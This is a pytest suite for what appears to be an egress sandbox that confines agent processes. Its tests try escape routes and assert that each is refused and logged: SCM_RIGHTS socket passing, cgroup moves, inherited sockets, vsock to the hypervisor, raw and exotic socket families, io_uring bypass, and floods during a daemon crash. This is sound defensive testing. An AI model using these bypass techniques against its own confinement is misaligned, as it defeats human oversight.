    where = Path(tempfile.mkdtemp(prefix="sg-scm-", dir="/tmp"))  # reachable by nobody (pytest's tmp is root's)
    os.chmod(where, 0o777)
    path = where / "pass.sock"
    code = ("import socket, sys, os\n"
            f"l = socket.socket(socket.AF_UNIX); l.bind({str(path)!r}); os.chmod({str(path)!r}, 0o777); l.listen(1)\n"
            "print('ready', flush=True)\n"
            "plain = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
            "bound = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
            f"bound.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, {remote.host_if!r}.encode())\n"
            f"bound.sendto(b'{m}-ctl!', ({RESOLVER4!r}, {RESOLVER_PORT}))\n"
            "c, _ = l.accept()\n"
            "c.sendmsg([b'x'], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, bytes(__import__('array').array('i', [plain.fileno(), bound.fileno()])))])\n"
            "c.recv(1)\n")
    sender = subprocess.Popen([SYSTEM_PYTHON, "-c", code], stdout=subprocess.PIPE, text=True)
    try:
        assert sender.stdout.readline().strip() == "ready"
        assert remote.received(m + "-ctl") > 0  # the device-bound socket reaches the remote for its owner
        r = daemon.agent("esc", {"attack": "scm_rights", "path": str(path), "marker": m,
                                 "targets": [[REMOTE4, 9], [RESOLVER4, RESOLVER_PORT]]}, confine=False)
    finally:
        sender.kill()
        sender.wait()
        shutil.rmtree(where, ignore_errors=True)
    assert r["received_fds"] == 2
    assert r["errnos"] == [EPERM, EPERM]
    assert remote.received(m) == 0
    daemon.wait_event("passed socket refused", pid=r["pid"], hook="sendmsg4", ip=REMOTE4,
                      reason_code="EGRESS_DESTINATION_NOT_ALLOWED")
    daemon.wait_event("passed device-bound socket refused", pid=r["pid"], hook="sendmsg4", ip=RESOLVER4,
                      reason_code="EGRESS_DEVICE_NOT_ALLOWED")


def test_socket_created_before_moving_into_the_agent_cgroup_is_judged_on_sendto(daemon, remote, request):
    """A root process makes its socket outside, then moves into the agent cgroup: the programs at the root
    judge the task, not the socket's cgroup."""
    m = marker(request)
    control = outside({"attack": "move_in_then_send", "cgroup": str(cgroup2_mount()), "dst": REMOTE4, "port": 9,
                       "marker": m + "-ctl"})
    assert control["errno"] == 0 and remote.received(m + "-ctl") > 0
    r = outside({"attack": "move_in_then_send", "cgroup": str(agent_cgroup(daemon.config, "esc")), "dst": REMOTE4,
                 "port": 9, "marker": m})
    assert (r["errno"], r["step"]) == (EPERM, "sendto")
    assert remote.received(m) == 0
    daemon.wait_event("pre-move socket refused", pid=r["pid"], hook="sendmsg4", ip=REMOTE4, agent_id="esc")


def test_inherited_socket_stdin_is_refused_by_the_launcher(daemon, remote):
    with socket.create_connection((REMOTE4, REMOTE_TCP), timeout=5) as s:
        with pytest.raises(AgentLaunchRefused, match="socket"):
            spawn_agent(daemon.config, "esc", [SYSTEM_PYTHON, "-c", "pass"], user="nobody", stdin=s.fileno())
        cli = subprocess.run([sys.executable, "-m", "ext_authz.cli", "agent", "run", "--agent", "esc", "--config",
                              str(daemon.config_path), "--user", "nobody", "--", SYSTEM_PYTHON, "-c",
                              "import os; os.write(0, b'SGX-stdin!')"], stdin=s.fileno(), capture_output=True, text=True)
    assert cli.returncode != 0 and "socket" in cli.stderr
    assert remote.tcp_bytes(REMOTE_TCP, "SGX-stdin") == 0


def test_inherited_fds_other_than_stdio_are_closed(daemon):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    os.set_inheritable(s.fileno(), True)
    try:
        r = daemon.agent("esc", {"attack": "fds"}, stdin=subprocess.DEVNULL)
    finally:
        s.close()
    assert r["fds"] == [0, 1, 2, 3]  # 3: the directory listing /proc/self/fd itself


def test_agent_run_refuses_root_without_allow_root(daemon):
    argv = [sys.executable, "-m", "ext_authz.cli", "agent", "run", "--agent", "esc", "--config", str(daemon.config_path),
            "--", SYSTEM_PYTHON, "-c", "import os; print(os.getuid())"]
    refused = subprocess.run(argv, capture_output=True, text=True, stdin=subprocess.DEVNULL)
    assert refused.returncode != 0 and "root" in refused.stderr and refused.stdout == ""
    allowed = subprocess.run(argv[:9] + ["--allow-root"] + argv[9:], capture_output=True, text=True, stdin=subprocess.DEVNULL)
    assert allowed.returncode == 0 and allowed.stdout.strip() == "0"


# ------------------------------------------------------------------ 5. other families


@pytest.mark.parametrize("name,family,kind", [
    ("vsock", socket.AF_VSOCK, socket.SOCK_STREAM),
    ("packet", socket.AF_PACKET, socket.SOCK_RAW),
    ("tipc", 30, socket.SOCK_DGRAM),
    ("bluetooth", 31, socket.SOCK_STREAM),
])
def test_non_inet_family_socket_is_refused(daemon, name, family, kind):
    r = daemon.agent("esc", {"attack": "socket_family", "family": family, "type": kind}, user=None)  # even as root
    assert (r["errno"], r["step"]) == (EPERM, "socket")
    daemon.wait_event(f"{name} socket refused", pid=r["pid"], hook="seccomp", syscall="socket", agent_id="esc")


def test_io_uring_is_refused_so_its_socket_op_cannot_bypass_the_filter(daemon):
    control = outside({"attack": "io_uring_setup"})
    assert control["errno"] == 0
    r = daemon.agent("esc", {"attack": "io_uring_setup"})
    assert (r["errno"], r["step"]) == (EPERM, "io_uring_setup")
    daemon.wait_event("io_uring refused", pid=r["pid"], hook="seccomp", syscall="io_uring_setup", agent_id="esc")


def test_vsock_refused(daemon):
    """AF_VSOCK reaches the hypervisor host (this VM's control channel is one): created here outside,
    refused for the agent."""
    control = outside({"attack": "socket_family", "family": socket.AF_VSOCK, "type": socket.SOCK_STREAM})
    assert control["errno"] == 0
    r = daemon.agent("esc", {"attack": "socket_family", "family": socket.AF_VSOCK, "type": socket.SOCK_STREAM})
    assert (r["errno"], r["step"]) == (EPERM, "socket")
    ev = daemon.wait_event("vsock refused", pid=r["pid"], hook="seccomp", syscall="socket", agent_id="esc")
    assert ev["actor"]["process"]["user"]["uid"] == "65534"


# ------------------------------------------------------------------ 4. no lost events across a kill -9


def test_daemon_kill_9_under_denied_traffic_loses_no_refusal(remote, tmp_path):
    """The daemon is killed with SIGKILL while an agent sends denied datagrams (more than the ring buffer
    holds arrive while no daemon runs), then restarted: every refusal the agent counted is an event of
    one of the daemons or inside a reported loss range."""
    d = Daemon(tmp_path, remote, f"sg-kill-{os.getpid()}")
    d.start()
    try:
        flood = {"attack": "flood", "dst": REMOTE4, "port": 9, "count": 40000, "pause_every": 20}
        proc = spawn_agent(d.config, "esc", [SYSTEM_PYTHON, "-c", AGENT, json.dumps(flood)], user="nobody",
                           stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, cwd="/")
        wait_until(lambda: len(d.events()) > 1000, 30, "the first refusals reported")
        d.stop(signal.SIGKILL)  # under traffic: no cleanup, no flush
        out, err = proc.communicate(timeout=120)
        assert proc.returncode == 0, err
        during = json.loads(out.strip().splitlines()[-1])
        d.start()
        after = d.agent("esc", {"attack": "flood", "dst": REMOTE4, "port": 9, "count": 1000, "pause_every": 50})
        runs = {during["pid"], after["pid"]}
        refusals = during["refused"] + after["refused"]
        assert refusals == 41000

        def accounted() -> tuple[int, int]:
            evs = d.events()
            seqs = {e["unmapped"]["seq"] for e in evs if "unmapped" in e and e["actor"]["process"]["pid"] in runs}
            lost: set[int] = set()
            for e in evs:
                if e.get("class_name") == "Sealgate Egress Event Loss" and "dropped_from" in e:
                    lost.update(range(e["dropped_from"], e["dropped_total"]))
            return len(seqs), len(lost)

        wait_until(lambda: sum(accounted()) >= refusals, 30, "events + reported drops to cover the refusals")
        events, dropped = accounted()
        assert events + dropped == refusals
        assert dropped > 0  # what did not fit the ring buffer while no daemon ran is reported, not silent
        assert d.log.read_text().count("egress ready") == 2
        assert events > 10000  # what waited in the pinned ring buffer was drained by the new daemon
    finally:
        d.stop()
        cleanup(d.config)
